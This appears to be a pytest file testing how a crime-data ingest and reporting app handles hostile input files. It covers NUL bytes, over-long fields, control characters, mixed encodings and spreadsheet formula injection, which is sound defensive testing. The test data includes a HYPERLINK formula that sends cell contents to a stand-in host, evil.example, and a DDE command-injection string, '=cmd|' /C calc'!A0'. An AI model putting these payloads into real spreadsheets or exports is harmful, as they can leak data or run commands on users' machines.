"""Hostile files, built from the bundled real police.uk sample and real council-log records:
NUL bytes and over-long fields set a row aside with its reason, identically on SQLite and
PostgreSQL, and the batch goes on (issue 20, finding 1); formula text and control characters
in data never reach a spreadsheet live or break it, and the JAG page keeps its downloads
(findings 2 and 3); a Windows-1252 line in a UTF-8 file is read on its own (finding 9)."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from access.incidents import list_rejects, load_incidents
from core.import_result import FileImportError
from core.safe_text import safe_csv
from ingest.council import ColumnMapping
from ingest.police import parse_police
from ingest.readcsv import read_rows
from ingest.run import IngestReport, ingest_bytes
from report.spreadsheet import Sheet, sheet_name, workbook_bytes
from report.summary import incident_summary
from store.incidents import list_imports
from store.models import ImportRun, Incident
from tests.databases import BACKENDS, database
from tests.sample_data import csv_bytes, read_police, run_cli
from tests.test_council import EXPECTED_MAPPING, HEADER, council_log

MONTH = "2024-01"
COL = {name: i for i, name in enumerate(read_police(MONTH)[0])}
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def police_rows(n: int = 40) -> tuple[list[str], list[list[str]]]:
    """The header and the first `n` real records of the bundled 2024-01 file that have
    coordinates (so every clean row is accepted)."""
    header, rows = read_police(MONTH)
    kept = [r for r in rows if r[COL["Longitude"]] and r[COL["Latitude"]]][:n]
    return header, [list(r) for r in kept]


def rejects_by_row(result) -> dict[int, tuple[str, str]]:
    return {int(r["row"]): (r["column"], r["reason"]) for _, r in result.rejected.iterrows()}


# -- finding 1: NUL bytes and over-long fields ------------------------------------------------

HOSTILE = {  # spreadsheet row -> (column, value, words of the reason)
    3: ("Location", "On or near\x00 Elwell Close", "contains a NUL character"),
    5: ("LSOA code", "E010306670000", "LSOA code is 13 characters long; at most 12"),
    7: ("Crime ID", "c" * 101, "Crime ID is 101 characters long; at most 100"),
    9: ("Crime type", "T" * 201, "Crime type is 201 characters long; at most 200"),
    11: ("LSOA name", "N" * 101, "LSOA name is 101 characters long; at most 100"),
    13: ("Falls within", "F" * 201, "Falls within is 201 characters long; at most 200"),
}


def hostile_police_file() -> bytes:
    header, rows = police_rows()
    for row_number, (column, value, _) in HOSTILE.items():
        rows[row_number - 2][COL[column]] = value
    return csv_bytes(header, rows)


def test_nul_and_over_long_fields_set_their_row_aside_with_file_row_column_and_reason():
    result = parse_police("2024-01-hostile-street.csv", hostile_police_file())
    found = rejects_by_row(result)
    assert sorted(found) == sorted(HOSTILE)
    for row_number, (column, _, words) in HOSTILE.items():
        assert found[row_number][0] == column
        assert words in found[row_number][1]
    assert set(result.rejected["file"]) == {"2024-01-hostile-street.csv"}
    assert (result.rows, len(result.accepted), len(result.rejected)) == (40, 34, 6)


@pytest.mark.parametrize("backend", BACKENDS)
def test_hostile_rows_are_set_aside_the_same_on_both_databases_and_the_batch_goes_on(
        backend, tmp_path):
    header, clean = police_rows()
    with database(backend, tmp_path) as db:
        report = IngestReport()
        ingest_bytes(db.engine, "2024-01-hostile-street.csv", hostile_police_file(), report=report)
        ingest_bytes(db.engine, "2024-01-clean-street.csv", csv_bytes(header, clean[34:]),
                     report=report)
        first, second = report.files
        assert (first["rows"], first["accepted"], first["rejected"], first["error"]) == (
            40, 34, 6, None)
        assert (second["accepted"] + second["duplicates"], second["error"]) == (6, None)
        stored = load_incidents(db.engine)
        assert len(stored) == report.accepted == first["accepted"] + second["accepted"]
        assert not stored["location"].str.contains("\x00").any()
        rejects = list_rejects(db.engine)
        assert sorted(rejects["row_number"]) == sorted(HOSTILE)
        nul = rejects.set_index("row_number").loc[3]
        assert nul["column"] == "Location" and nul["raw"]["Location"].endswith("Elwell Close")


@pytest.mark.parametrize("backend", BACKENDS)
def test_the_cli_json_answers_for_a_batch_holding_hostile_files(backend, tmp_path):
    header, clean = police_rows()
    paths = []
    for name, data in (("2024-01-a-street.csv", hostile_police_file()),
                       ("2024-01-b-street.csv", csv_bytes(
                           [h.replace("Month", "Mo\x00nth") for h in header], clean[:20])),
                       ("2024-01-c-street.csv", csv_bytes(header, clean[:5]))):
        paths.append(tmp_path / name)
        paths[-1].write_bytes(data)
    with database(backend, tmp_path) as db:
        done = run_cli(["ingest", "--json", *map(str, paths)], db.url)
        assert "Traceback" not in done.stdout + done.stderr
        answer = json.loads(done.stdout)
        a, b, c = answer["files"]
        assert (a["accepted"], a["rejected"], a["error"]) == (34, 6, None)
        assert b["error"] == "the header row contains a NUL character"
        assert c["error"] is None and c["accepted"] + c["duplicates"] == 5
        assert answer["rows"] == answer["accepted"] + answer["duplicates"] + answer["rejected"]
        assert done.returncode == 1  # one file refused as a whole, said in the JSON


def test_a_stray_nul_near_the_start_is_a_row_problem_not_a_binary_file():
    header, rows = police_rows(5)
    data = csv_bytes(header, rows).replace(b"Elwell Close", b"Elwell\x00Close", 1)
    table = read_rows("2024-01-nul-street.csv", data)
    assert len(table.rows) == 4 and list(table.rejected["column"]) == ["Location"]


@pytest.mark.parametrize("backend", BACKENDS)
def test_council_fields_too_long_to_store_are_set_aside_and_a_long_dataset_name_refused(
        backend, tmp_path):
    _, rows = council_log(6)
    rows[1][HEADER.index("Ref No")] = "R" * 101
    rows[2][HEADER.index("Incident Type")] = "Fly-tipping " + "x" * 200
    data = csv_bytes(HEADER, rows)
    with database(backend, tmp_path) as db:
        report = ingest_bytes(db.engine, "asb.csv", data, EXPECTED_MAPPING)
        assert (report.accepted, report.rejected) == (4, 2)
        reasons = sorted(list_rejects(db.engine)["reason"])
        assert reasons[0].startswith("Incident Type is 212 characters long; at most 200")
        assert reasons[1].startswith("Ref No is 101 characters long; at most 100")
        long_name = ColumnMapping(**{**EXPECTED_MAPPING.to_dict(), "dataset": "D" * 201})
        refused = ingest_bytes(db.engine, "asb.csv", data, long_name)
        assert "dataset name is 201 characters long" in refused.files[0]["error"]
        # a file name longer than its column holds is kept, cut, on both databases
        name = "n" * 600 + ".csv"
        stored = ingest_bytes(db.engine, name, csv_bytes(HEADER, council_log(3)[1]),
                              EXPECTED_MAPPING)
        assert stored.files[0]["error"] is None
        runs = list_imports(db.engine)
        assert runs["file_name"].str.len().max() == 500
        assert runs["dataset"].str.len().max() == 200


# -- findings 2 and 3: formulas and control characters in spreadsheets and CSV ---------------

def test_control_characters_are_removed_at_import_and_the_note_says_where():
    header, rows = police_rows(6)
    rows[1][COL["Crime type"]] = "Anti-social\x1b behaviour"
    rows[3][COL["Location"]] = "On or near\x07 Elwell\x85 Close"
    result = parse_police("2024-01-esc-street.csv", csv_bytes(header, rows))
    assert list(result.accepted["category"])[1] == "Anti-social behaviour"
    assert list(result.accepted["location"])[3] == "On or near Elwell Close"
    assert result.notes == ["3 control character(s) (such as ESC) were removed from line(s) "
                            "3, 5"]


def hostile_categories(engine) -> None:
    """Give stored incidents the categories an old import could have kept: ESC inside, a
    formula (the import before this fix kept control characters)."""
    with engine.begin() as conn:
        ids = conn.execute(select(Incident.id).where(Incident.category == "Shoplifting")
                           .order_by(Incident.id)).scalars().all()
        half = len(ids) // 2
        conn.execute(update(Incident).where(Incident.id.in_(ids[:half]))
                     .values(category="Shop\x1blifting"))
        conn.execute(update(Incident).where(Incident.id.in_(ids[half:]))
                     .values(category=FORMULA))


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    """The bundled sample (two months) with two categories made hostile."""
    from geo.bundled import seed_bundled_layers
    from ingest.run import ingest_paths
    from tests.sample_data import SAMPLE_POLICE

    with database("sqlite", tmp_path_factory.mktemp("hostile")) as db:
        seed_bundled_layers(db.engine)
        ingest_paths(db.engine, [SAMPLE_POLICE / "2023-12", SAMPLE_POLICE / MONTH])
        hostile_categories(db.engine)
        yield db


def test_the_jag_spreadsheet_guards_every_header_cell_and_sheet_name(hostile_db):
    summary = incident_summary(hostile_db.engine, "Spelthorne", "ward", "2023-12", MONTH)
    wide = summary.wide()
    assert FORMULA in wide.columns and "Shop\x1blifting" in wide.columns
    sheets = [Sheet(FORMULA, f"Spelthorne {FORMULA}", summary.overview(), [FORMULA]),
              Sheet("By crime type", "Spelthorne\x1b", wide, ["note\x00"]),
              Sheet("by crime TYPE", "again", wide)]
    book = load_workbook(io.BytesIO(workbook_bytes(sheets, "police.uk\x1b")))
    assert book.sheetnames[1:] == ["By crime type", "by crime TYPE (2)"]
    assert not book.sheetnames[0].startswith(("=", "+", "-", "@", "'"))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in cell.value)
    headers = [c.value for c in book["By crime type"][4]]
    assert "'" + FORMULA.capitalize() in headers and "Shoplifting" in headers


def test_csv_downloads_guard_headers_and_strip_control_characters():
    frame = pd.DataFrame({FORMULA: ["@SUM(1)", "Shop\x1blifting"], "count": [1, 2]})
    text = safe_csv(frame)
    header, *rows = list(csv.reader(io.StringIO(text)))
    assert header == ["'" + FORMULA, "count"] and "\x1b" not in text
    assert rows == [["'@SUM(1)", "1"], ["Shoplifting", "2"]]


def test_sheet_names_are_made_acceptable():
    taken: set[str] = set()
    assert sheet_name("=cmd|' /C calc'!A0", taken) == "cmd|'  C calc'!A0"
    assert sheet_name("'quoted'", taken) == "quoted"
    assert sheet_name("\x1b", taken) == "Sheet"
    assert sheet_name("Sheet", taken) == "Sheet (2)"
    assert sheet_name("x" * 40, taken) == "x" * 31


def jag_page() -> None:
    """The JAG report page as app.py runs it for a signed-in admin."""
    import runpy

    from access.roles import Principal
    from access.scope import acting_as
    from views import state

    state.engine.clear()
    with acting_as(Principal("jag.admin", "admin", "JAG admin")):
        runpy.run_path("views/jag_report.py")


def test_the_jag_page_keeps_its_downloads_with_hostile_categories(hostile_db, monkeypatch):
    from streamlit.testing.v1 import AppTest

    from tests.sample_data import ROOT

    monkeypatch.chdir(ROOT)
    monkeypatch.setenv("HOTSPOTS_DATABASE_URL", hostile_db.url)
    page = AppTest.from_function(jag_page, default_timeout=180)
    page.run()
    assert [e.message for e in page.exception] == []
    labels = [d.proto.label for d in page.get("download_button")]
    assert "Download JAG spreadsheet (.xlsx)" in labels
    assert "Download summary spreadsheet (.xlsx)" in labels
    assert not [w for w in page.warning if "could not be made" in w.body]


def failing_page() -> None:
    """A page meeting a failure nobody foresaw (here, openpyxl refusing a control
    character, as every XLSX export did before this fix)."""
    from openpyxl import Workbook

    Workbook().active.append(["Shop\x1blifting"])


def test_a_failure_no_page_foresaw_shows_no_traceback_or_server_path(monkeypatch):
    from streamlit.testing.v1 import AppTest

    from tests.sample_data import ROOT

    monkeypatch.chdir(ROOT)  # the app's .streamlit/config.toml: showErrorDetails = "none"
    page = AppTest.from_function(failing_page, default_timeout=60)
    page.run()
    [shown] = page.exception
    assert shown.stack_trace == []
    assert "redacted" in shown.message and "IllegalCharacterError" not in shown.message
    assert str(ROOT) not in shown.message and ".py" not in shown.message


# -- finding 9: one Windows-1252 line in a UTF-8 file ----------------------------------------

ACCENTED = ["On or near Rue de l'Église", "On or near Café Crème", "On or near Zoë's Lane"]


def accented_file(windows_line_at: int | None) -> tuple[bytes, list[list[str]]]:
    """A real police.uk extract whose ASB rows (no Crime ID) carry accented place names, in
    UTF-8; with one record written in Windows-1252 (as Excel saves) when asked."""
    header, rows = read_police(MONTH)
    asb = [list(r) for r in rows if not r[COL["Crime ID"]] and r[COL["Longitude"]]][:30]
    for i, row in enumerate(asb):
        row[COL["Location"]] = ACCENTED[i % 3]
    clean = csv_bytes(header, asb)
    if windows_line_at is None:
        return clean, asb
    lines = clean.split(b"\r\n")
    lines[windows_line_at - 1] = lines[windows_line_at - 1].decode("utf-8").encode("cp1252")
    return b"\r\n".join(lines), asb


def test_one_windows_1252_line_is_read_alone_and_every_key_matches_the_clean_file():
    clean, asb = accented_file(None)
    mixed, _ = accented_file(windows_line_at=8)
    assert mixed != clean
    with pytest.raises(UnicodeDecodeError):
        mixed.decode("utf-8")
    ours, theirs = parse_police("2024-01-surrey-street.csv", mixed), \
        parse_police("2024-01-surrey-street.csv", clean)
    assert list(ours.accepted["location"]) == [r[COL["Location"]] for r in asb]
    assert list(ours.accepted["dedup_key"]) == list(theirs.accepted["dedup_key"])
    assert ours.accepted["crime_id"].isna().all()  # keys made from the rows' content
    assert ours.notes == ["1 line(s) were not UTF-8 and were read as Windows-1252 (Excel's "
                          "encoding): line(s) 8"]
    assert theirs.notes == []


@pytest.mark.parametrize("backend", BACKENDS)
def test_accented_names_survive_a_mixed_file_and_it_adds_nothing_after_the_clean_one(
        backend, tmp_path):
    clean, _ = accented_file(None)
    mixed, _ = accented_file(windows_line_at=8)
    with database(backend, tmp_path) as db:
        first = ingest_bytes(db.engine, "2024-01-clean-street.csv", clean)
        again = ingest_bytes(db.engine, "2024-01-excel-street.csv", mixed)
        assert (first.accepted, again.accepted, again.duplicates) == (30, 0, 30)
        assert again.files[0]["notes"][0].endswith("line(s) 8")
        assert set(load_incidents(db.engine)["location"]) == set(ACCENTED)


def test_a_file_that_is_all_windows_1252_is_read_and_says_so():
    clean, _ = accented_file(None)
    text = clean.decode("utf-8")
    result = parse_police("2024-01-surrey-street.csv", text.encode("cp1252"))
    assert set(result.accepted["location"]) == set(ACCENTED)
    assert result.notes[0].startswith("30 line(s) were not UTF-8")


def test_the_reader_refuses_what_is_not_text_and_a_header_with_nul():
    with pytest.raises(FileImportError, match="header row contains a NUL"):
        header, rows = police_rows(20)
        read_rows("x.csv", csv_bytes([h.replace("Month", "Mo\x00nth") for h in header], rows))
    with pytest.raises(FileImportError, match="binary data"):
        read_rows("x.csv", b"\x00\x01\x02\x03" * 100)


def test_import_runs_say_nothing_is_unfinished_after_a_clean_import(tmp_path):
    with database("sqlite", tmp_path) as db:
        header, rows = police_rows(10)
        ingest_bytes(db.engine, "2024-01-surrey-street.csv", csv_bytes(header, rows))
        with db.engine.connect() as conn:
            run = conn.execute(select(ImportRun.accepted, ImportRun.error)).one()
        assert tuple(run) == (10, None)
